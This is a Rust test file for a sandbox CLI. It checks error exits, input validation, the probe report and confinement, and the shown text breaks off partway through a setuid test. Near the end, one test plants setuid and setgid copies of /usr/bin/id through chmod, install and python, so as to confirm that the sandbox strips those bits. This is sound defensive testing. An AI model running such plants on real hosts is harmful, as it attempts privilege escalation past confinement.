//! The `sandbox` CLI's error paths: usage errors exit 2, sandbox errors exit 125 with
//! `sandbox: <error>` on stderr, and nothing is created on error.
#![allow(clippy::unwrap_used, clippy::panic, clippy::tests_outside_test_module)]

use std::fs;
use std::process::{Command, Stdio};

const SANDBOX: &str = env!("CARGO_BIN_EXE_sandbox");

fn export(args: &[&str], profile_json: Option<&str>) -> (std::process::Output, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = Command::new(SANDBOX);
    cmd.current_dir(dir.path()).args(["bundle", "export", "--out", "out"]);
    if let Some(json) = profile_json {
        fs::write(dir.path().join("p.json"), json).unwrap();
        cmd.args(["--profile", "p.json"]);
    }
    cmd.args(args);
    (cmd.output().unwrap(), dir)
}

#[test]
fn invalid_profile_file_names_the_key_exits_125_and_creates_nothing() {
    let cases = [
        (r#"{"workspace_root": "/", "netwrk": "deny"}"#, "netwrk"),
        (r#"{"workspace_root": "/", "network": "maybe"}"#, "network"),
        (r#"{"workspace_root": "/", "host_read": 7}"#, "host_read"),
        (r#"{"workspace_root": "/", "home": "shared"}"#, "home"),
        (
            r#"{"workspace_root": "/", "additional_roots": [{"path": "/", "read": "allow", "wrte": "deny"}]}"#,
            "additional_roots[0].wrte",
        ),
        (r#"{"workspace_root": "relative/dir"}"#, "workspace_root"),
        (r#"{"network": "deny"}"#, "workspace_root"),
        (r#"{"workspace_root": "/", "isolation": "unconfined"}"#, "ack_unconfined"),
        (r#"{"workspace_root": "/", "unix_sockets": "gated"}"#, "unix_sockets"),
        (r#"{"workspace_root": "/", "unix_sockets": "yes"}"#, "unix_sockets"),
        (r#"[1, 2]"#, "object"),
        (r#"{"workspace_root": "/", "#, "json"),
    ];
    for (json, key) in cases {
        let (o, dir) = export(&["--", "/bin/true"], Some(json));
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(125), "{json}: {err}");
        assert!(err.starts_with("sandbox: invalid profile"), "{json}: {err}");
        assert!(err.contains(key), "{json}: error does not name {key}: {err}");
        assert!(!dir.path().join("out").exists(), "{json}: out dir created on error");
        assert!(o.stdout.is_empty());
    }
}

#[test]
fn missing_profile_file_is_an_error_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .args(["bundle", "export", "--out", "out", "--profile", "nope.json", "--", "/bin/true"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&o.stderr).contains("nope.json"));
    assert!(!dir.path().join("out").exists());
}

/// `--profile` is read with a bound of 1 MiB: `/dev/zero` or an oversized file fails at once
/// with an error naming `--profile` (not after reading gigabytes), on every verb; a file of
/// exactly 1 MiB is read (and judged as JSON).
#[test]
fn an_oversized_or_endless_profile_fails_fast_naming_the_flag() {
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.json");
    fs::write(&big, vec![b' '; (1 << 20) + 1]).unwrap();
    let exact = dir.path().join("exact.json");
    let mut json = br#"{"workspace_root": "/", "command": "allow"}"#.to_vec();
    json.resize(1 << 20, b' ');
    fs::write(&exact, &json).unwrap();
    let zero = std::path::Path::new("/dev/zero");
    for verb in [&["run", "--json"][..], &["run"][..], &["bundle", "export", "--out", "out"][..], &["serve"][..]] {
        for file in [zero, big.as_path()] {
            let start = std::time::Instant::now();
            let mut cmd = Command::new(SANDBOX);
            cmd.current_dir(dir.path()).args(verb).arg("--profile").arg(file);
            if verb[0] != "serve" {
                cmd.args(["--", "/bin/true"]);
            }
            let o = cmd.stdin(std::process::Stdio::null()).output().unwrap();
            assert!(start.elapsed() < std::time::Duration::from_secs(10), "{verb:?} {file:?}: slow");
            let text = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
            assert_eq!(o.status.code(), Some(125), "{verb:?} {file:?}: {text}");
            let want = format!("invalid profile: --profile {}: larger than 1048576 bytes (1 MiB)", file.display());
            assert!(text.contains(&want), "{verb:?} {file:?}: {text}");
            assert!(!dir.path().join("out").exists());
        }
    }
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .args(["bundle", "export", "--out", "out", "--profile"])
        .arg(&exact)
        .args(["--", "/bin/true"])
        .output()
        .unwrap();
    assert!(o.status.success(), "a profile of exactly 1 MiB: {}", String::from_utf8_lossy(&o.stderr));
}

/// A `--cwd` that is missing or not a directory is an invalid argument naming `--cwd` (not a
/// grant error: no grant is involved), the same for `run`, `run --json` and `bundle export`,
/// and nothing is created; serve's `cwd` key likewise names `request: cwd`.
#[test]
fn a_bad_cwd_is_an_invalid_argument_naming_the_flag_on_every_verb() {
    let area = Area::new();
    fs::write(area.ws.join("file"), "x").unwrap();
    let before = area.snapshot();
    for cwd in ["/nonexistent", "file", "missing/dir"] {
        for verb in [&["run"][..], &["run", "--json"][..], &["bundle", "export", "--out", "../out"][..]] {
            let mut args: Vec<std::ffi::OsString> = verb.iter().map(|a| os(a)).collect();
            args.extend([os("--scratch"), os("../scratch")].into_iter().filter(|_| verb[0] == "run"));
            args.extend([os("--cwd"), os(cwd), os("--"), os("/usr/bin/touch"), os("ran")]);
            let o = area.sandbox(&refs(&args));
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(o.status.code(), Some(125), "{args:?}: {err}");
            let message = if verb.contains(&"--json") {
                let v = run_json(&o);
                assert_eq!(v["error"], "invalid_argument", "{args:?}: {v}");
                v["message"].as_str().unwrap().to_owned()
            } else {
                err.strip_prefix("sandbox: ").unwrap().trim_end().to_owned()
            };
            assert!(message.starts_with("invalid argument: --cwd: ") && message.contains(cwd), "{args:?}: {message}");
            assert!(message.contains("is not a directory"), "{args:?}: {message}");
        }
    }
    assert_eq!(area.snapshot(), before, "a refused cwd ran or wrote something");
    if !sandbox_runs_here("a_bad_cwd_is_an_invalid_argument_naming_the_flag_on_every_verb") {
        return;
    }
    use std::io::Write;
    let (mut child, mut stdin, mut lines) = spawn_serve(&area, &[]);
    writeln!(stdin, r#"{{"id": 1, "argv": ["/usr/bin/touch", "ran"], "cwd": "/nonexistent"}}"#).unwrap();
    let v: serde_json::Value = serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap();
    assert_eq!(v["error"], "invalid_argument", "{v}");
    assert!(v["message"].as_str().unwrap().starts_with("invalid argument: request: cwd: /nonexistent "), "{v}");
    drop(stdin);
    assert!(child.wait().unwrap().success());
    assert!(!area.ws.join("ran").exists());
}

#[test]
fn non_empty_out_dir_is_refused_and_left_alone() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join("out")).unwrap();
    fs::write(dir.path().join("out/keep"), "mine").unwrap();
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .args(["bundle", "export", "--out", "out", "--", "/bin/true"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not empty"));
    let entries: Vec<_> = fs::read_dir(dir.path().join("out")).unwrap().collect();
    assert_eq!(entries.len(), 1);
    assert_eq!(fs::read_to_string(dir.path().join("out/keep")).unwrap(), "mine");
}

#[test]
fn usage_errors_exit_2() {
    for args in [
        &["bundle", "export", "--", "/bin/true"][..],
        &["bundle", "export", "--out", "x"][..],
        &["bundle", "frobnicate"][..],
        &["--no-such-flag"][..],
        &[][..],
    ] {
        let dir = tempfile::tempdir().unwrap();
        let o = Command::new(SANDBOX).current_dir(dir.path()).args(args).output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
        assert!(!dir.path().join("x").exists());
    }
}

#[test]
fn a_cwd_outside_the_view_is_refused_before_writing() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    fs::create_dir(&ws).unwrap();
    let other = tempfile::tempdir().unwrap();
    let profile = format!(r#"{{"workspace_root": "{}", "workspace_read": "allow"}}"#, ws.display());
    fs::write(dir.path().join("p.json"), profile).unwrap();
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .args(["bundle", "export", "--out", "out", "--profile", "p.json", "--cwd"])
        .arg(other.path())
        .args(["--", "/bin/true"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("cwd"));
    assert!(!dir.path().join("out").exists());
}

#[test]
fn export_writes_the_documented_layout() {
    let (o, dir) = export(&["--", "/bin/echo", "hi"], None);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = dir.path().join("out");
    let config: serde_json::Value = serde_json::from_slice(&fs::read(out.join("config.json")).unwrap()).unwrap();
    assert_eq!(config["process"]["args"], serde_json::json!(["/bin/echo", "hi"]));
    assert_eq!(config["root"]["readonly"], true);
    assert_eq!(config["annotations"]["sandbox.version"], "1");
    assert!(config["linux"].get("cgroupsPath").is_none() && config["linux"].get("resources").is_none());
    use std::os::unix::fs::PermissionsExt;
    for (d, mode) in [("rootfs", 0o755), ("home", 0o700), ("tmp", 0o700)] {
        let m = fs::metadata(out.join(d)).unwrap();
        assert!(m.is_dir());
        assert_eq!(m.permissions().mode() & 0o777, mode, "{d}");
    }
    // rootfs holds only symlinks (host read is allowed by the CLI default profile).
    for e in fs::read_dir(out.join("rootfs")).unwrap() {
        assert!(e.unwrap().file_type().unwrap().is_symlink());
    }
    // The environment is scrubbed: a secret in ours never reaches the bundle.
    let env = config["process"]["env"].to_string();
    assert!(env.contains("HOME=") && env.contains("TMPDIR=") && !env.contains("CARGO_"), "{env}");
}

#[test]
fn out_dir_equal_to_the_workspace_or_cwd_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .args(["bundle", "export", "--out", ".", "--", "/bin/true"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&o.stderr).contains("out_dir"), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0, "nothing written");
}

#[test]
fn duplicate_keys_in_the_profile_are_refused() {
    let (o, dir) =
        export(&["--", "/bin/true"], Some(r#"{"workspace_root": "/", "network": "deny", "network": "allow"}"#));
    assert_eq!(o.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&o.stderr).contains("network: duplicate key"));
    assert!(!dir.path().join("out").exists());
}

#[test]
fn hostile_cli_arguments_get_clear_errors() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let run = |args: &[&std::ffi::OsStr]| Command::new(SANDBOX).current_dir(dir.path()).args(args).output().unwrap();
    let os = |s: &str| std::ffi::OsString::from(s);
    // A non-UTF-8 profile path: a clear error naming it, nothing written.
    let bad = std::ffi::OsStr::from_bytes(b"p\xff.json");
    let o = run(&[
        &os("bundle"),
        &os("export"),
        &os("--out"),
        &os("out"),
        &os("--profile"),
        bad,
        &os("--"),
        &os("/bin/true"),
    ]);
    assert_eq!(o.status.code(), Some(125), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("--profile"));
    // A newline in the output path works (it is just a name) and prints it back.
    let o = run(&[&os("bundle"), &os("export"), &os("--out"), &os("out\nx"), &os("--"), &os("/bin/true")]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(dir.path().join("out\nx/config.json").exists());
    // A non-UTF-8 argv cannot go into an OCI bundle: a clear error.
    let o = run(&[
        &os("bundle"),
        &os("export"),
        &os("--out"),
        &os("out2"),
        &os("--"),
        std::ffi::OsStr::from_bytes(b"/bin/\xfe"),
    ]);
    assert_eq!(o.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&o.stderr).contains("argv"));
    assert!(!dir.path().join("out2").exists());
    // Huge and negative numbers are usage errors or clear errors, never a panic.
    for args in [
        ["--timeout", "-1"],
        ["--timeout", "1e400"],
        ["--output-limit", "99999999999999999999999"],
        ["--timeout", "abc"],
    ] {
        let mut full = vec![os("run"), os("--json")];
        full.extend(args.iter().map(|a| os(a)));
        full.extend([os("--"), os("/bin/true")]);
        let refs: Vec<&std::ffi::OsStr> = full.iter().map(|s| s.as_os_str()).collect();
        let o = run(&refs);
        let code = o.status.code();
        assert!(code == Some(2) || code == Some(125), "{args:?}: {code:?} {}", String::from_utf8_lossy(&o.stderr));
        assert!(!String::from_utf8_lossy(&o.stderr).contains("panicked"), "{args:?}");
    }
}

/// Every entry below `dir` (symlinks not followed) with its size, for "nothing was written".
fn tree(dir: &std::path::Path) -> std::collections::BTreeMap<std::path::PathBuf, u64> {
    fn walk(dir: &std::path::Path, into: &mut std::collections::BTreeMap<std::path::PathBuf, u64>) {
        for e in fs::read_dir(dir).unwrap().flatten() {
            let meta = fs::symlink_metadata(e.path()).unwrap();
            into.insert(e.path(), if meta.is_dir() { 0 } else { meta.len() });
            if meta.is_dir() {
                walk(&e.path(), into);
            }
        }
    }
    let mut map = std::collections::BTreeMap::new();
    walk(dir, &mut map);
    map
}

/// A hostile-argument area under `/var/tmp` (a workload's `/tmp` is private, so the host's must
/// not hold the workspace): `ws` (the CLI's current directory and default workspace) and
/// `scratch` beside it.
struct Area {
    dir: tempfile::TempDir,
    ws: std::path::PathBuf,
    scratch: std::path::PathBuf,
}

impl Area {
    fn new() -> Area {
        let dir = tempfile::Builder::new().prefix("sbx-cli").tempdir_in("/var/tmp").unwrap();
        let root = fs::canonicalize(dir.path()).unwrap();
        let (ws, scratch) = (root.join("ws"), root.join("scratch"));
        fs::create_dir(&ws).unwrap();
        fs::create_dir(&scratch).unwrap();
        fs::write(ws.join("keep.txt"), "mine\n").unwrap();
        Area { dir, ws, scratch }
    }

    /// Runs the CLI in `ws` with `args`.
    fn sandbox(&self, args: &[&std::ffi::OsStr]) -> std::process::Output {
        Command::new(SANDBOX).current_dir(&self.ws).args(args).output().unwrap()
    }

    /// Everything in the area but the scratch roots' contents, which must be empty again.
    fn snapshot(&self) -> std::collections::BTreeMap<std::path::PathBuf, u64> {
        tree(self.dir.path())
    }
}

/// Whether `sandbox run` can confine here (the probe says so). Otherwise a loud SKIPPED line,
/// or a failure when `SANDBOX_REQUIRE_PRIVILEGED=1` (scripts/test.sh as root).
fn sandbox_runs_here(what: &str) -> bool {
    let o = Command::new(SANDBOX).args(["probe", "--json"]).output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or(serde_json::Value::Null);
    if v["available"] == serde_json::Value::Bool(true) {
        return true;
    }
    let required = std::env::var_os("SANDBOX_REQUIRE_PRIVILEGED").is_some_and(|r| r == "1");
    assert!(!required, "cli::{what} needs a sandbox here (SANDBOX_REQUIRE_PRIVILEGED=1): {}", v["reason"]);
    eprintln!("!!!!!!!! SKIPPED privileged test cli::{what} ({}) !!!!!!!!", v["reason"]);
    false
}

/// `sandbox probe` speaks to a person on a terminal (`--text` here, where stdout is a pipe) and
/// gives the same as data as JSON (on a pipe, as CONTRACT.md §18 says, or with `--json`; issue
/// 15): the verdict, the measured containment, each missing layer with its cost and fix.
#[test]
fn probe_prints_for_a_person_and_json_gives_the_same_as_data() {
    if !sandbox_runs_here("probe_prints_for_a_person_and_json_gives_the_same_as_data") {
        return;
    }
    let o = Command::new(SANDBOX).args(["probe", "--json"]).output().unwrap();
    assert!(o.status.success(), "{o:?}");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["lifetime_containment"], "enforced", "measured: a run's left-behind child is gone");
    assert!(v["grant_classes"].as_array().unwrap().len() >= 8, "{v}");
    // Issue 17: a gated probe container measured the egress proxy.
    let has = |key: &str, want: &str| v[key].as_array().unwrap().iter().any(|g| g == want);
    assert!(has("achievable", "target-network") && !has("guarantees", "target-network"), "{v}");
    assert!(has("grant_classes", "network.proxy-target.v1"), "{v}");
    assert_eq!(v["target_network"]["status"], "enforced", "{v}");
    let findings = v["findings"].as_array().unwrap();
    let piped = Command::new(SANDBOX).arg("probe").output().unwrap();
    let piped: serde_json::Value = serde_json::from_slice(&piped.stdout).unwrap();
    assert_eq!(piped["findings"], v["findings"], "on a pipe the probe prints its JSON");
    let o = Command::new(SANDBOX).args(["probe", "--text"]).output().unwrap();
    assert!(o.status.success(), "{o:?}");
    let text = String::from_utf8(o.stdout).unwrap();
    assert!(serde_json::from_str::<serde_json::Value>(&text).is_err(), "not JSON with --text: {text}");
    assert!(text.starts_with("sandbox probe: linux "), "{text}");
    assert!(text.contains(&format!("available: yes, level {}", v["level"].as_str().unwrap())), "{text}");
    assert!(text.contains("lifetime containment: enforced"), "{text}");
    assert!(text.contains("target-network (network gated): enforced: "), "{text}");
    assert!(text.lines().any(|l| l.starts_with("achievable here: ") && l.contains("target-network")), "{text}");
    if findings.is_empty() {
        assert!(text.contains("missing: nothing"), "{text}");
    }
    for f in findings {
        assert!(
            text.contains(&format!("- {}: {}", f["layer"].as_str().unwrap(), f["missing"].as_str().unwrap())),
            "{text}"
        );
    }
    for e in v["report"].as_array().unwrap() {
        assert!(
            text.contains(&format!("  {}: {}: ", e["feature"].as_str().unwrap(), e["status"].as_str().unwrap())),
            "{text}"
        );
    }
}

fn os(s: &str) -> std::ffi::OsString {
    std::ffi::OsString::from(s)
}

fn refs(v: &[std::ffi::OsString]) -> Vec<&std::ffi::OsStr> {
    v.iter().map(std::ffi::OsString::as_os_str).collect()
}

/// The host's `git` in `dir`, with a committer identity.
fn git_in(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .output()
        .unwrap()
}

/// [`git_in`] that must succeed; its stdout.
fn git_ok(dir: &std::path::Path, args: &[&str]) -> String {
    let o = git_in(dir, args);
    assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[test]
fn relative_paths_and_paths_with_newlines_work_and_write_only_the_scratch_root() {
    if !sandbox_runs_here("relative_paths_and_paths_with_newlines_work_and_write_only_the_scratch_root") {
        return;
    }
    let area = Area::new();
    fs::create_dir(area.ws.join("sub")).unwrap();
    fs::create_dir(area.ws.join("a\nb")).unwrap();
    fs::create_dir(area.scratch.join("s\nt")).unwrap();
    let before = area.snapshot();
    // Relative --cwd and --scratch (with `..`) resolve against the current directory.
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--cwd"),
        os("sub"),
        os("--scratch"),
        os("../scratch"),
        os("--"),
        os("/bin/pwd"),
    ]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(o.stdout, format!("{}\n", area.ws.join("sub").display()).into_bytes());
    // A newline in --cwd and in --scratch is just a byte of the name.
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--cwd"),
        os("a\nb"),
        os("--scratch"),
        os("../scratch/s\nt"),
        os("--"),
        os("/bin/pwd"),
    ]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(o.stdout, format!("{}\n", area.ws.join("a\nb").display()).into_bytes());
    assert_eq!(area.snapshot(), before, "a run wrote outside its scratch root or left something in it");
}

#[test]
fn non_utf8_paths_get_clear_errors_and_write_nothing() {
    use std::os::unix::ffi::OsStrExt;
    let area = Area::new();
    let bad_dir = std::ffi::OsStr::from_bytes(b"d\xff");
    fs::create_dir(area.ws.join(bad_dir)).unwrap();
    fs::create_dir(area.scratch.join(bad_dir)).unwrap();
    let before = area.snapshot();
    // `bundle export` needs no sandbox: an OCI config.json holds only UTF-8 paths.
    let mut out = std::ffi::OsString::from("../out");
    out.push(bad_dir);
    let cases: Vec<Vec<std::ffi::OsString>> = vec![
        vec![os("bundle"), os("export"), os("--out"), out.clone(), os("--"), os("/bin/true")],
        vec![
            os("bundle"),
            os("export"),
            os("--out"),
            os("../out"),
            os("--cwd"),
            bad_dir.into(),
            os("--"),
            os("/bin/true"),
        ],
    ];
    for args in &cases {
        let o = area.sandbox(&refs(args));
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(125), "{args:?}: {err}");
        assert!(err.contains("not valid UTF-8") && !err.contains("panicked"), "{args:?}: {err}");
    }
    assert_eq!(area.snapshot(), before, "a refused export wrote something");
    if !sandbox_runs_here("non_utf8_paths_get_clear_errors_and_write_nothing") {
        return;
    }
    let mut scratch = std::ffi::OsString::from("../scratch/");
    scratch.push(bad_dir);
    let cases: Vec<Vec<std::ffi::OsString>> = vec![
        vec![os("run"), os("--cwd"), bad_dir.into(), os("--scratch"), os("../scratch"), os("--"), os("/bin/pwd")],
        vec![os("run"), os("--scratch"), scratch, os("--"), os("/bin/pwd")],
    ];
    for args in &cases {
        let o = area.sandbox(&refs(args));
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(125), "{args:?}: {err}");
        assert!(err.contains("not valid UTF-8") && !err.contains("panicked"), "{args:?}: {err}");
        assert!(o.stdout.is_empty(), "{args:?}: the workload ran");
    }
    assert_eq!(area.snapshot(), before, "a refused run wrote outside its scratch root or left something in it");
}

#[test]
fn a_one_mib_argv_and_the_largest_output_limit_work() {
    if !sandbox_runs_here("a_one_mib_argv_and_the_largest_output_limit_work") {
        return;
    }
    let area = Area::new();
    let before = area.snapshot();
    // Linux caps one argument at 128 KiB (MAX_ARG_STRLEN: execve fails with E2BIG before the
    // CLI runs), so the mebibyte comes as sixteen 64 KiB arguments.
    let chunk = "a".repeat(64 * 1024);
    let mut args = vec![
        os("run"),
        os("--scratch"),
        os("../scratch"),
        os("--output-limit"),
        os(&u64::MAX.to_string()),
        os("--"),
        os("/bin/sh"),
        os("-c"),
        os("printf %s \"$@\" | wc -c"),
        os("sh"),
    ];
    args.extend(std::iter::repeat_n(os(&chunk), 16));
    let o = area.sandbox(&refs(&args));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "1048576");
    assert_eq!(area.snapshot(), before);
}

#[test]
fn huge_and_non_finite_numbers_name_their_flag_and_write_nothing() {
    let area = Area::new();
    let before = area.snapshot();
    for (value, flag, code) in [
        ("NaN", "--timeout", 2),
        ("inf", "--timeout", 2),
        ("1e400", "--timeout", 2),
        ("1e300", "--timeout", 2),
        ("", "--timeout", 2),
        ("99999999999999999999999", "--output-limit", 2),
        ("18446744073709551616", "--output-limit", 2),
    ] {
        for json in [false, true] {
            let mut args = vec![os("run"), os("--scratch"), os("../scratch")];
            if json {
                args.push(os("--json"));
            }
            args.extend([os(flag), os(value), os("--"), os("/bin/true")]);
            let o = area.sandbox(&refs(&args));
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(o.status.code(), Some(code), "{flag} {value:?}: {err}");
            assert!(!err.contains("panicked"), "{flag} {value:?}: {err}");
            if json && code == 125 {
                // Exactly one JSON object naming the error kind, and its message the flag.
                let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
                assert_eq!(v["error"], "invalid_argument", "{flag} {value:?}");
                assert!(v["message"].as_str().is_some_and(|m| m.contains(flag)), "{flag} {value:?}: {v}");
            } else {
                assert!(err.contains(flag), "{flag} {value:?}: {err}");
            }
        }
    }
    assert_eq!(area.snapshot(), before, "a refused number wrote something");
}

/// Out-of-range values of numeric flags are usage errors exactly like unparsable ones (exit 2,
/// clap's `invalid value '…' for '--flag …'`, nothing on stdout, even with `--json`), and
/// `--help` states `--timeout`'s bounds.
#[test]
fn out_of_range_flag_values_are_usage_errors_naming_the_flag() {
    let area = Area::new();
    let before = area.snapshot();
    let cases: &[&[&str]] = &[
        &["run", "--timeout", "nan"],
        &["run", "--timeout", "inf"],
        &["run", "--timeout", "1e9"],
        &["run", "--timeout", "1000000001"],
        &["run", "--timeout=-1"],
        &["run", "--timeout", "-1"],
        &["run", "--timeout", "-0.5"],
        &["run", "--cpus", "0"],
        &["run", "--cpus", "1001"],
        &["run", "--cpu-weight", "0"],
        &["run", "--cpu-weight", "10001"],
        &["serve", "--max-executors", "0"],
        &["serve", "--max-executors", "1025"],
        &["serve", "--cpus=-1"],
    ];
    for case in cases {
        let flag = case[1].split('=').next().unwrap();
        for json in [false, true] {
            let mut args: Vec<std::ffi::OsString> = case.iter().map(|a| os(a)).collect();
            if json && case[0] == "run" {
                args.push(os("--json"));
            }
            args.extend([os("--scratch"), os("../scratch")]);
            if case[0] == "run" {
                args.extend([os("--"), os("/usr/bin/touch"), os("ran")]);
            }
            let o = Command::new(SANDBOX)
                .current_dir(&area.ws)
                .args(&args)
                .stdin(std::process::Stdio::null())
                .output()
                .unwrap();
            let err = String::from_utf8_lossy(&o.stderr);
            if case == &["run", "--timeout", "1e9"] {
                // The bound itself is a value; only the spawn may fail here (no sandbox), never usage.
                assert_ne!(o.status.code(), Some(2), "{args:?}: {err}");
                continue;
            }
            assert_eq!(o.status.code(), Some(2), "{args:?}: {err}");
            assert!(err.contains("invalid value '") && err.contains(&format!("for '{flag} <")), "{args:?}: {err}");
            assert!(o.stdout.is_empty(), "{args:?}: {}", String::from_utf8_lossy(&o.stdout));
        }
    }
    fs::remove_file(area.ws.join("ran")).ok();
    assert_eq!(area.snapshot(), before, "a refused value ran or wrote something");
    let o = Command::new(SANDBOX).args(["run", "--help"]).output().unwrap();
    let help = String::from_utf8_lossy(&o.stdout);
    assert!(help.contains("to 1000000000 (about 31 years)"), "{help}");
}

/// `argv` cannot carry a NUL byte (execve takes C strings), so NUL comes only through text the
/// CLI reads: the `--profile` JSON file. Each case names the field (or says where the JSON is
/// broken), exits 125, and nothing is created.
#[test]
fn nul_bytes_in_the_profile_json_name_the_field_and_write_nothing() {
    let area = Area::new();
    let ws = area.ws.display().to_string();
    let cases = [
        (format!(r#"{{"workspace_root": "{ws}\u0000x"}}"#), "workspace_root"),
        (format!(r#"{{"workspace_root": "{ws}", "netw\u0000ork": "deny"}}"#), "unknown key"),
        (format!(r#"{{"workspace_root": "{ws}", "network": "de\u0000ny"}}"#), "network"),
        (
            format!(
                r#"{{"workspace_root": "{ws}", "additional_roots": [{{"path": "/va\u0000r", "read": "allow", "write": "deny"}}]}}"#
            ),
            "additional_roots[0].path",
        ),
        (format!("{{\"workspace_root\": \"{ws}\0\"}}"), "profile json"),
        (format!("{{\"workspace_root\": \"{ws}\"}}\0"), "profile json"),
    ];
    let before = area.snapshot();
    for (i, (json, field)) in cases.iter().enumerate() {
        let file = area.dir.path().join(format!("p{i}.json"));
        fs::write(&file, json).unwrap();
        for verb in [&["run", "--scratch", "../scratch"][..], &["bundle", "export", "--out", "../out"][..]] {
            let mut args: Vec<std::ffi::OsString> = verb.iter().map(|a| os(a)).collect();
            args.extend([os("--profile"), file.clone().into_os_string(), os("--"), os("/bin/true")]);
            let o = area.sandbox(&refs(&args));
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(o.status.code(), Some(125), "{verb:?} {json:?}: {err}");
            assert!(err.starts_with("sandbox: invalid profile") && err.contains(field), "{verb:?} {json:?}: {err}");
            assert!(o.stdout.is_empty(), "{verb:?} {json:?}");
        }
        fs::remove_file(&file).unwrap();
    }
    assert_eq!(area.snapshot(), before, "a refused profile wrote something");
}

/// The `--report` JSON a run printed on stderr (its last line).
fn report_entry(stderr: &[u8], feature: &str) -> serde_json::Value {
    let text = String::from_utf8_lossy(stderr);
    let line = text.lines().rev().find(|l| l.starts_with('{')).unwrap_or("{}");
    let v: serde_json::Value = serde_json::from_str(line).unwrap_or(serde_json::Value::Null);
    v["report"].as_array().and_then(|r| r.iter().find(|e| e["feature"] == feature).cloned()).unwrap_or_default()
}

/// Issue 12 class 2, the issue's own reproduction and its variants through the CLI: no set-id
/// bit survives on the host, so `setpriv` of the planted file runs as nobody; ordinary modes
/// work (the control).
#[test]
fn the_issue_setuid_plant_leaves_nothing_set_id_on_the_host() {
    use std::os::unix::fs::PermissionsExt;
    if !sandbox_runs_here("the_issue_setuid_plant_leaves_nothing_set_id_on_the_host") {
        return;
    }
    let area = Area::new();
    let run = |script: &str| area.sandbox(&refs(&[os("run"), os("--"), os("sh"), os("-c"), os(script)]));
    // The reproduction: the copy is made, the chmod is refused, the run fails.
    let o = run("cp /usr/bin/id suid-id && chmod 4755 suid-id");
    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("Operation not permitted"));
    for (script, file) in [
        ("chmod u+s suid-id", "suid-id"),
        ("chmod g+s suid-id", "suid-id"),
        ("chmod 6755 suid-id", "suid-id"),
        ("install -m 4755 /usr/bin/id installed", "installed"),
        ("python3 -c 'import os; os.close(os.open(\"py-open\", os.O_CREAT | os.O_WRONLY, 0o4755))'", "py-open"),
        ("python3 -c 'import os; os.mkdir(\"py-dir\", 0o2755)'", "py-dir"),
    ] {
        let o = run(script);
        assert_ne!(o.status.code(), Some(0), "{script}: {}", String::from_utf8_lossy(&o.stderr));
        if let Ok(meta) = fs::metadata(area.ws.join(file)) {
            assert_eq!(meta.permissions().mode() & 0o6000, 0, "{script}: {file} is set-id on the host");
        }
    }
    let mode = fs::metadata(area.ws.join("suid-id")).unwrap().permissions().mode();
    assert_eq!(mode & 0o6000, 0, "suid-id mode {mode:o}");
    // On the host, as nobody, the planted copy runs as nobody.
    let is_root = fs::metadata("/proc/self").map(|m| std::os::unix::fs::MetadataExt::uid(&m)).unwrap_or(1) == 0;
    if is_root && std::path::Path::new("/usr/bin/setpriv").exists() {
        fs::set_permissions(&area.ws, fs::Permissions::from_mode(0o755)).unwrap();
        fs::set_permissions(area.dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
